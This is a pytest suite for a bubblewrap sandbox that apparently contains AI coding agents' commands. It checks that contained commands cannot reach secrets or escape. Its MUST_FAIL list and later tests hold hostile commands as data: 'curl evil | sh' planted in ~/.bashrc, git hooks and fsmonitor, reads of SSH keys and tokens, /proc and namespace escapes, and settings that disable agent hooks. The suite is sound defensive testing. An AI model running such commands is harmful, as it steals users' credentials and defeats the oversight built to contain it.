"""`gatekeep run --sandbox`, in real bubblewrap: what a contained command can and cannot do.

Each test makes a home (the isolated one), a project in it (a git work tree holding a `.env`),
secrets outside it (`~/.ssh/id_rsa`, another project's `.env`), a start-up file and an audit
log, and runs `gatekeep run --sandbox -- sh -c SCRIPT` as a user would, in its own process.
What must fail is checked twice: the command fails, and the file outside is as it was.

bubblewrap is required where GATEKEEP_REQUIRE_BWRAP=1 (CI installs it); elsewhere these tests
skip with the reason.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from gatekeep.contain.sandbox import HELD_WHEN_MISSING
from tests.conftest import write

if shutil.which("bwrap") is None:
    if os.environ.get("GATEKEEP_REQUIRE_BWRAP") == "1":
        pytest.fail("GATEKEEP_REQUIRE_BWRAP=1, but bwrap is not on PATH: install bubblewrap", pytrace=False)
    pytest.skip("bubblewrap (bwrap) is not installed", allow_module_level=True)
# A kernel or container that refuses bubblewrap its plainest sandbox (no user namespaces): gatekeep
# then runs nothing contained (test_no_bubblewrap_runs_nothing's case), and these cannot run.
_PLAIN = subprocess.run(["bwrap", "--ro-bind", "/", "/", "--unshare-user", "--", "true"], capture_output=True, text=True)
if _PLAIN.returncode != 0:
    pytest.skip(f"bubblewrap cannot make a sandbox here: {_PLAIN.stderr.strip()}", allow_module_level=True)

ROOT = Path(__file__).resolve().parent.parent
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"
NOT_RUN = 125


@pytest.fixture
def world(isolated_home: Path):
    """The home, the project and the secrets (module docstring); yields a dict of paths."""
    home = isolated_home
    project = home / "src" / "app"
    project.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    places = {
        "home": home,
        "project": project,
        "env": write(project / ".env", "DB_PASSWORD=inside\n"),
        "key": write(home / ".ssh" / "id_rsa", KEY + "\n"),
        "other_env": write(home / "src" / "other" / ".env", "TOKEN=outside\n"),
        "bashrc": write(home / ".bashrc", "# start-up\n"),
        "credentials": write(home / ".git-credentials", "https://u:outside@example.com\n"),
        "claude_token": write(home / ".claude" / ".credentials.json", '{"token": "outside"}\n'),
        "history": write(home / ".bash_history", "export TOKEN=outside\n"),
        "audit": write(Path(os.environ["GATEKEEP_HOME"]) / "state" / "audit.jsonl", '{"line": "secret history"}\n'),
        "script": write(project / "hello.py", "print('hello from the project')\n"),
    }
    return places


def contained(script: str, cwd: Path, stdin=None, env=None, pass_fds=(), policy: str | None = None):
    """`gatekeep run --sandbox -- sh -c SCRIPT` in cwd, as its own process."""
    if policy is not None:
        write(Path(os.environ["GATEKEEP_HOME"]) / "config" / "policy.yaml", policy)
    command = [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "sh", "-c", script]
    run_env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run(
        command, cwd=cwd, stdin=stdin if stdin is not None else subprocess.DEVNULL, capture_output=True,
        text=True, timeout=60, env=run_env, pass_fds=pass_fds,
    )  # fmt: skip


# (what it tries, the script, the place that must be as it was: a key of world, or None)
MUST_FAIL = [
    ("write outside the tree", "echo x > ~/outside.txt", None),
    ("append to a start-up file", "echo 'curl evil | sh' >> ~/.bashrc", "bashrc"),
    ("read the ssh key", "cat ~/.ssh/id_rsa", "key"),
    ("read the tree's .env", "cat .env", "env"),
    ("search the tree for the secret", "grep -r DB_PASSWORD .", "env"),
    ("archive the tree with its secrets", "tar cf - . | tar tvf - | grep -q env && tar cf - . | tar xOf - ./.env", "env"),
    ("read another project's .env", "cat ~/src/other/.env", "other_env"),
    ("read the home's git credentials", "cat ~/.git-credentials", "credentials"),
    ("read Claude Code's token", "cat ~/.claude/.credentials.json", "claude_token"),
    ("read the shell's history", "cat ~/.bash_history", "history"),
    ("list another project", "ls ~/src/other", None),
    ("read the audit log", 'cat "$AUDIT"', "audit"),
    ("write the audit log", 'echo forged >> "$AUDIT"', "audit"),
    ("write a git hook", "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", None),
    ("change .git/config", "git config core.fsmonitor 'curl evil | sh'", None),
    ("plant Claude settings that switch hooks off", "mkdir -p .claude; echo '{\"disableAllHooks\": true}' > .claude/settings.local.json", None),
    ("plant a Copilot hook", "mkdir -p .github/hooks; echo '{}' > .github/hooks/gate.json", None),
    ("plant an OpenCode plugin", "echo '{\"plugin\": [\"evil\"]}' > opencode.json", None),
    ("move the repository aside", "mv .git .git-old || mv .git/hooks .git/hooks-old", None),
    ("rename a held settings directory", "mv .claude .claude-old && mkdir .claude", None),
    # escapes
    ("a link made in the tree to the key", "ln -s ~/.ssh/id_rsa k && cat k", "key"),
    ("a link made in the tree to the home", "ln -s ~ h && echo x >> h/.bashrc", "bashrc"),
    ("the key through /proc/self/root", "cat /proc/self/root$KEYFILE", "key"),
    ("the key through /proc/1/root", "cat /proc/1/root$KEYFILE", "key"),
    ("a bind mount over the tree", "mount --bind ~ ./h2 2>&1; mkdir -p h2 && mount --bind / h2 && echo x >> h2$HOME/.bashrc", "bashrc"),
    ("unshare a user namespace", "unshare -r sh -c 'umount ~/.ssh && cat ~/.ssh/id_rsa'", "key"),
    ("unshare a mount namespace", "unshare -m true", None),
    ("remount the root read-write", "mount -o remount,rw / && echo x >> ~/.bashrc", "bashrc"),
    ("the tmpfs over the key dir unmounted", "umount ~/.ssh && cat ~/.ssh/id_rsa", "key"),
]


@pytest.mark.parametrize(("what", "script", "kept"), MUST_FAIL, ids=[m[0] for m in MUST_FAIL])
def test_contained_command_cannot(world, what, script, kept):
    before = {name: path.read_bytes() for name, path in world.items() if name not in ("home", "project")}
    env = {"AUDIT": str(world["audit"]), "KEYFILE": str(world["key"])}
    done = contained(script, world["project"], env=env)
    assert done.returncode not in (0, NOT_RUN), (what, done.stdout, done.stderr)
    assert KEY not in done.stdout and "inside" not in done.stdout and "outside" not in done.stdout
    assert "secret history" not in done.stdout
    for name, content in before.items():
        assert world[name].read_bytes() == content, f"{what}: {name} changed"
    assert not (world["home"] / "outside.txt").exists()
    hooks = world["project"] / ".git" / "hooks" / "pre-commit"
    assert not hooks.exists()
    assert "fsmonitor" not in (world["project"] / ".git" / "config").read_text()
    assert not any((world["project"] / name).exists() for name in HELD_WHEN_MISSING)  # nothing held is left
    assert sorted(p.name for p in (world["project"] / ".git").iterdir()) == GIT_ENTRIES


GIT_ENTRIES = sorted(["HEAD", "branches", "config", "description", "hooks", "info", "objects", "refs"])


def test_settings_in_the_lines_own_directory_are_held_too(world):
    """An agent started in a subdirectory reads its settings there (`apps/web/.claude`)."""
    sub = world["project"] / "apps" / "web"
    sub.mkdir(parents=True)
    done = contained("mkdir -p .claude; echo '{\"disableAllHooks\": true}' > .claude/settings.json", sub)
    assert done.returncode != 0
    assert list(sub.iterdir()) == []


def test_writing_through_a_descriptor_of_a_file_outside_fails(world):
    """A standard input that is a file outside (`< ~/.bashrc`), reopened for writing through
    /dev/fd/0, and a descriptor passed in (3> ~/.bashrc): the file is as it was."""
    with open(world["bashrc"], "rb") as stdin:
        done = contained("echo pwned > /dev/fd/0; echo pwned > /proc/self/fd/0; cat", world["project"], stdin=stdin)
    assert done.returncode == 0
    assert "# start-up" in done.stdout  # what it was given to read, it reads
    fd = os.open(world["bashrc"], os.O_WRONLY | os.O_APPEND)
    try:
        done = contained("echo pwned >&3 || echo pwned > /proc/self/fd/3", world["project"], pass_fds=(fd,))
    finally:
        os.close(fd)
    assert done.returncode != 0
    assert world["bashrc"].read_text() == "# start-up\n"


def test_output_to_files_goes_through_pipes(world):
    """Standard output and error that are files opened for reading (`1< ~/.bashrc`) cannot be
    reopened for writing through /proc/self/fd; output to a file (`> out.txt`) still lands there,
    all of it, before gatekeep ends, and with errors to the same file (`2>&1`) in the order it was
    written (one pipe for both: two copiers put `end` in the middle of a line, under load)."""
    with open(world["bashrc"], "rb") as out, open(world["other_env"], "rb") as err:
        done = subprocess.run(
            [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "sh", "-c",
             "echo pwned > /proc/self/fd/1; echo pwned > /proc/self/fd/2"],
            cwd=world["project"], stdin=subprocess.DEVNULL, stdout=out, stderr=err, timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
    assert world["bashrc"].read_text() == "# start-up\n"
    assert world["other_env"].read_text() == "TOKEN=outside\n"
    target = world["project"] / "out.txt"
    with open(target, "wb") as out:
        done = subprocess.run(
            [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "sh", "-c", "seq 1 200000; echo end >&2"],
            cwd=world["project"], stdin=subprocess.DEVNULL, stdout=out, stderr=out, timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
    assert done.returncode == 0
    assert target.read_text().split("\n") == [*(str(i) for i in range(1, 200001)), "end", ""]


def test_processes_outside_cannot_be_signalled_or_traced(world):
    """The sandbox has its own process namespace: what runs outside has no number there."""
    outside = subprocess.Popen(["sleep", "60"])
    try:
        trace = (
            "import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True);"
            " sys.exit(0 if any(libc.ptrace(16, int(p), 0, 0) == 0 for p in sys.argv[1:]) else 1)"
        )
        # the test's own process is the parent of gatekeep, which is bubblewrap's
        for script in (f"kill -TERM {outside.pid}", f"kill -KILL {os.getpid()}", f'python3 -c "{trace}" {outside.pid} {os.getpid()}'):
            done = contained(script, world["project"])
            assert done.returncode != 0, script
        assert outside.poll() is None  # still running, and not stopped by a tracer
        assert Path(f"/proc/{outside.pid}/status").read_text().count("TracerPid:\t0") == 1
    finally:
        outside.kill()
        outside.wait()


def test_the_loopback_server_outside_is_out_of_reach_unless_the_network_is_on(world):
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    accepted = []

    def serve():
        server.settimeout(30)
        try:
            while True:
                connection, _ = server.accept()
                accepted.append(connection)
                connection.sendall(b"reached")
                connection.close()
        except OSError:
            return

    threading.Thread(target=serve, daemon=True).start()
    probe = f"python3 -c \"import socket; print(socket.create_connection(('127.0.0.1', {port}), timeout=5).recv(9).decode())\""
    try:
        done = contained(probe, world["project"])
        assert done.returncode != 0 and "reached" not in done.stdout
        assert not accepted
        done = contained(probe, world["project"], policy="sandbox:\n  network: on\n")
        assert done.returncode == 0 and "reached" in done.stdout, done.stderr
    finally:
        server.close()


def test_a_socket_outside_the_tree_is_out_of_reach(world, tmp_path):
    """A unix socket in /run or /tmp (an ssh agent's, docker's): hidden, whatever the network."""
    path = "/tmp" if not str(tmp_path).startswith("/tmp/") else str(tmp_path)
    name = os.path.join(path, f"agent-{os.getpid()}.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen(1)
    try:
        probe = f"python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{name}')\""
        done = contained(probe, world["project"], policy="sandbox:\n  network: on\n")
        assert done.returncode != 0
    finally:
        server.close()
        os.unlink(name)


def test_a_socket_in_a_home_dot_entry_is_out_of_reach(world):
    """Docker Desktop's socket lives in ~/.docker/desktop/, shown read-only: connecting ignores a
    read-only mount, so no unix socket can be made at all (the seccomp filter)."""
    place = world["home"] / ".docker" / "desktop"
    place.mkdir(parents=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(place / "docker.sock"))
    server.listen(1)
    server.settimeout(0.5)
    try:
        probe = "python3 -c \"import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.path.expanduser('~/.docker/desktop/docker.sock'))\""
        done = contained(probe, world["project"], policy="sandbox:\n  network: on\n")
        assert done.returncode != 0
        assert "Permission denied" in done.stderr
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()


def test_secret_variables_are_not_passed_in(world):
    done = contained('echo "[$GITHUB_TOKEN][$AWS_SECRET_ACCESS_KEY][$SSH_AUTH_SOCK][$OPENAI_KEY][$GITHUB_PAT][$APP_DB][$KEPT]"',
                     world["project"], env={"GITHUB_TOKEN": "ghp_x", "AWS_SECRET_ACCESS_KEY": "aws_x", "SSH_AUTH_SOCK": "/x",
                     "OPENAI_KEY": "sk", "GITHUB_PAT": "p", "APP_DB": "postgres://u:secret@db/x", "KEPT": "k"})  # fmt: skip
    assert done.stdout.strip() == "[][][][][][][k]"


# (what it does, the script, what the project then holds: a file and its content)
MUST_WORK = [
    ("write in the tree", "echo made > made.txt", ("made.txt", "made\n")),
    ("write in a new directory of the tree", "mkdir -p build/out && echo x > build/out/a", ("build/out/a", "x\n")),
    ("read the project", "cat hello.py > copy.py", ("copy.py", "print('hello from the project')\n")),
    ("run python3", "python3 hello.py > out.txt", ("out.txt", "hello from the project\n")),
    ("a private /tmp", "echo t > /tmp/x && cat /tmp/x > t.txt", ("t.txt", "t\n")),
    ("git status", "git status --short > status.txt", ("status.txt", None)),
]


@pytest.mark.parametrize(("what", "script", "made"), MUST_WORK, ids=[m[0] for m in MUST_WORK])
def test_contained_command_can(world, what, script, made):
    done = contained(script, world["project"])
    assert done.returncode == 0, (what, done.stderr)
    name, content = made
    assert (world["project"] / name).exists()
    if content is not None:
        assert (world["project"] / name).read_text() == content


def test_pytest_runs_in_a_small_project(world):
    write(world["project"] / "test_small.py", "def test_adds():\n    assert 1 + 1 == 2\n")
    done = contained(f"{sys.executable} -m pytest -q -p no:cacheprovider test_small.py", world["project"])
    assert done.returncode == 0, done.stdout + done.stderr
    assert "1 passed" in done.stdout
    failing = write(world["project"] / "test_fails.py", "def test_fails():\n    assert False\n")
    done = contained(f"{sys.executable} -m pytest -q -p no:cacheprovider {failing.name}", world["project"])
    assert done.returncode == 1  # pytest's own status, passed through


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_test_runs_in_a_small_project(world):
    write(world["project"] / "package.json",
          '{"name": "small", "version": "1.0.0", "scripts": {"test": "node -e \\"require(\'fs\').writeFileSync(\'npm-ran\', \'yes\')\\""}}')  # fmt: skip
    done = contained("npm test", world["project"])
    assert done.returncode == 0, done.stdout + done.stderr
    assert (world["project"] / "npm-ran").read_text() == "yes"


@pytest.mark.parametrize("status", [0, 1, 7, 255])
def test_the_exit_status_is_the_commands(world, status):
    assert contained(f"exit {status}", world["project"]).returncode == status


def test_a_signal_that_ends_the_command_is_its_status(world):
    assert contained("kill -TERM $$", world["project"]).returncode == 128 + 15


def test_writable_places_of_the_policy(world):
    cache = world["home"] / ".cache" / "pip"
    cache.mkdir(parents=True)
    assert contained("echo x > ~/.cache/pip/wheel", world["project"]).returncode != 0
    done = contained("echo x > ~/.cache/pip/wheel", world["project"], policy="sandbox:\n  writable: [~/.cache/pip]\n")
    assert done.returncode == 0, done.stderr
    assert (cache / "wheel").read_text() == "x\n"


def test_a_project_cannot_make_places_writable_or_turn_the_network_on(world):
    """A repository's .gatekeep.yaml is hostile: its sandbox settings only ever tighten."""
    cache = world["home"] / ".cache" / "pip"
    cache.mkdir(parents=True)
    write(world["project"] / ".gatekeep.yaml", "sandbox:\n  writable: [~/.cache/pip]\n  network: on\n")
    assert contained("echo x > ~/.cache/pip/wheel", world["project"]).returncode != 0
    assert not (cache / "wheel").exists()


def test_no_bubblewrap_runs_nothing(world):
    """Fail closed: with no bubblewrap (GATEKEEP_BWRAP=none stands for a machine without it) the
    command never runs, uncontained or otherwise."""
    done = contained("echo ran > ran.txt", world["project"], env={"GATEKEEP_BWRAP": "none"})
    assert done.returncode == NOT_RUN
    assert "not run" in done.stderr and "bubblewrap is not installed" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert not (world["project"] / "ran.txt").exists()


def test_a_sandbox_that_cannot_be_built_runs_nothing(world):
    """A missing command inside: bubblewrap stops before it runs; gatekeep says so (not 127 or 1)."""
    command = [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "/nonexistent/program"]
    done = subprocess.run(command, cwd=world["project"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
    assert done.returncode == NOT_RUN
    assert "gatekeep: not run: bubblewrap stopped before the command ran" in done.stderr


@pytest.mark.parametrize("where", ["", "loose", ".config"])
def test_a_place_that_is_no_project_runs_nothing(world, where):
    """The home, a directory in no repository, a repository of the home's settings (`~/.config`,
    whose files run code): no working tree to give the line."""
    place = world["home"] / where
    place.mkdir(exist_ok=True)
    if where == ".config":
        subprocess.run(["git", "init", "-q", str(place)], check=True)
    done = contained("echo ran > ran.txt", place)
    assert done.returncode == NOT_RUN, done.stderr
    assert "in no working tree" in done.stderr or "settings" in done.stderr
    assert not (place / "ran.txt").exists()


def test_a_broken_policy_runs_nothing(world):
    done = contained("echo ran > ran.txt", world["project"], policy="sandbox: [not, a, mapping]\n")
    assert done.returncode == NOT_RUN
    assert "policy error" in done.stderr
    assert not (world["project"] / "ran.txt").exists()


def test_run_without_sandbox_runs_nothing(world):
    command = [sys.executable, "-m", "gatekeep", "run", "--", "touch", "ran.txt"]
    done = subprocess.run(command, cwd=world["project"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
    assert done.returncode == NOT_RUN
    assert not (world["project"] / "ran.txt").exists()


def test_a_run_that_ends_leaves_another_runs_placeholders_in_place(world):
    """Removing a placeholder from outside detaches it in every sandbox that binds it: when the
    run that made one ends while another binds it, it is left in place, and the last run out
    removes it. (Removed early, the later run could plant `.claude/settings.json`.)"""
    import time

    command = [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "sh", "-c"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    first = subprocess.Popen([*command, "sleep 2"], cwd=world["project"], env=env)
    deadline = time.monotonic() + 20
    while not (world["project"] / ".claude").exists():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    plant = "sleep 4; mkdir -p .claude; echo planted > .claude/settings.json"
    second = subprocess.Popen([*command, plant], cwd=world["project"], env=env, stderr=subprocess.PIPE, text=True)
    time.sleep(1)  # (the second sandbox is built, binding the first one's placeholder)
    assert first.wait(timeout=30) == 0
    assert (world["project"] / ".claude").is_dir()  # still held for the second
    assert second.wait(timeout=30) != 0, second.stderr.read()
    assert not (world["project"] / ".claude").exists()  # the last one out removed it


@pytest.mark.parametrize("target", ["build/cfg", "~/.aws"])
def test_a_settings_directory_that_is_a_link_is_read_only_where_it_points(world, target):
    """`.claude -> build/cfg`: writing through the link would plant settings; a link out of the
    tree reaches only what the sandbox shows there (read-only or hidden)."""
    place = world["home"] / ".aws" if target.startswith("~") else world["project"] / target
    place.mkdir(parents=True)
    (world["project"] / ".claude").symlink_to(place)
    done = contained("echo '{\"disableAllHooks\": true}' > .claude/settings.json", world["project"])
    assert done.returncode not in (0, NOT_RUN), done.stderr
    assert not (place / "settings.json").exists()


def test_a_bwrap_on_path_is_never_the_one_run(world):
    """A `bwrap` a contained line put in a directory on PATH (an activated .venv/bin) would run
    the next line uncontained: gatekeep runs only a root-owned bubblewrap in a system directory."""
    fake = world["project"] / ".venv" / "bin"
    fake.mkdir(parents=True)
    write(fake / "bwrap", '#!/bin/sh\ntouch "$HOME/fake-ran"\nwhile [ "$1" != -- ]; do shift; done; shift; exec "$@"\n')
    (fake / "bwrap").chmod(0o755)
    path = f"{fake}:{os.environ['PATH']}"
    done = contained("cat ~/.ssh/id_rsa; echo x >> ~/.bashrc", world["project"], env={"PATH": path})
    assert KEY not in done.stdout
    assert not (world["home"] / "fake-ran").exists()
    assert world["bashrc"].read_text() == "# start-up\n"


NOBODY = 65534


def test_the_sandbox_holds_for_an_unprivileged_user(tmp_path):
    """Users are not root: the same bubblewrap command line, run as `nobody` through setpriv, in
    a home and tree that user owns (under /tmp: the test's own directory is root's alone)."""
    import json
    import tempfile

    if os.getuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv to become another user")
    probe = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "bwrap", "--ro-bind", "/", "/",
             "--unshare-user", "--", "true"]  # fmt: skip
    if subprocess.run(probe, capture_output=True, cwd="/").returncode != 0:
        pytest.skip("this kernel gives an unprivileged user no user namespace")
    base = Path(tempfile.mkdtemp(dir="/tmp", prefix="gatekeep-nobody-"))
    try:
        base.chmod(0o755)
        home = base / "home"
        tree = home / "src" / "app"
        write(home / ".ssh" / "id_rsa", KEY + "\n")
        write(home / ".bashrc", "# start-up\n")
        tree.mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(tree)], check=True)
        write(tree / ".env", "DB_PASSWORD=inside\n")
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(base)], check=True)
        script = "id -u > uid.txt; touch made; cat ~/.ssh/id_rsa; cat .env; echo x >> ~/.bashrc; exit 3"
        build = (
            "import json, os, sys\n"
            "from gatekeep.contain.sandbox import prepare\n"
            "from gatekeep.core.paths import get_paths\n"
            "from gatekeep.judge.policy import load_policy\n"
            "paths = get_paths()\n"
            "args, hold = prepare(['sh', '-c', sys.argv[1]], os.getcwd(), load_policy(paths, cwd=os.getcwd()), paths)\n"
            "at = args.index('--uid'); args[at + 1] = args[at + 3] = sys.argv[2]\n"
            "print(json.dumps(args))\n"
        )
        env = {**os.environ, "HOME": str(home), "PYTHONPATH": str(ROOT), "GATEKEEP_HOME": str(base / "gatekeep")}
        made = subprocess.run([sys.executable, "-c", build, script, str(NOBODY)], cwd=tree, env=env,
                              capture_output=True, text=True, check=True)  # fmt: skip
        args = json.loads(made.stdout)
        subprocess.run(["chmod", "-R", "a+rX", str(base / "gatekeep")], check=True)  # (nobody binds root's empty file)
        done = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *args],
                              cwd=tree, env={"HOME": str(home), "PATH": os.environ["PATH"]},
                              capture_output=True, text=True, timeout=60)  # fmt: skip
        for name in HELD_WHEN_MISSING:  # (the placeholders bubblewrap made; the process that planned them has ended)
            found = tree / name
            if found.is_dir():
                found.rmdir()
            elif found.exists():
                found.unlink()
        assert done.returncode == 3, done.stderr
        assert (tree / "uid.txt").read_text().strip() == str(NOBODY) and (tree / "made").exists()
        assert KEY not in done.stdout and "inside" not in done.stdout
        assert (home / ".bashrc").read_text() == "# start-up\n"
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_secrets_are_hidden_wherever_they_lie_in_the_tree(world):
    """A marker a contained line can write (pyvenv.cfg) or a directory it moves into node_modules
    must not decide what the next run hides."""
    sub = world["project"] / "sub"
    write(sub / ".env", "SUB_SECRET=1\n")
    assert contained("touch sub/pyvenv.cfg", world["project"]).returncode == 0
    assert "SUB_SECRET" not in contained("cat sub/.env", world["project"]).stdout
    assert contained("mkdir -p node_modules && mv sub node_modules/", world["project"]).returncode == 0
    assert "SUB_SECRET" not in contained("cat node_modules/sub/.env", world["project"]).stdout


def test_a_repository_made_by_a_contained_line_is_disarmed(world):
    """`git init sub` and a `.git` file pointing elsewhere, made inside: renamed after the run, so
    that no git run outside reads their config (core.fsmonitor runs a command)."""
    project = world["project"]
    script = "git init -q made && git -C made config core.fsmonitor 'touch /tmp/x'; mkdir -p lib && echo 'gitdir: ../made/.git' > lib/.git"
    done = contained(script, project)
    assert done.returncode == 0, done.stderr
    assert not (project / "made" / ".git").exists() and (project / "made" / ".git-made-contained").is_dir()
    assert not (project / "lib" / ".git").exists() and (project / "lib" / ".git-made-contained").is_file()
    assert done.stderr.count("made a repository") == 2
    assert (project / ".git").is_dir()  # the tree's own, there before, stays


def test_nested_repositories_and_the_hooks_path_are_read_only(world):
    project = world["project"]
    subprocess.run(["git", "init", "-q", str(project / "vendored")], check=True)
    (project / ".husky").mkdir()
    subprocess.run(["git", "-C", str(project), "config", "core.hooksPath", ".husky"], check=True)
    script = "git -C vendored config core.fsmonitor 'touch /tmp/x'; echo x > .husky/pre-commit"
    done = contained(script, project)
    assert done.returncode != 0
    assert "fsmonitor" not in (project / "vendored" / ".git" / "config").read_text()
    assert not (project / ".husky" / "pre-commit").exists()
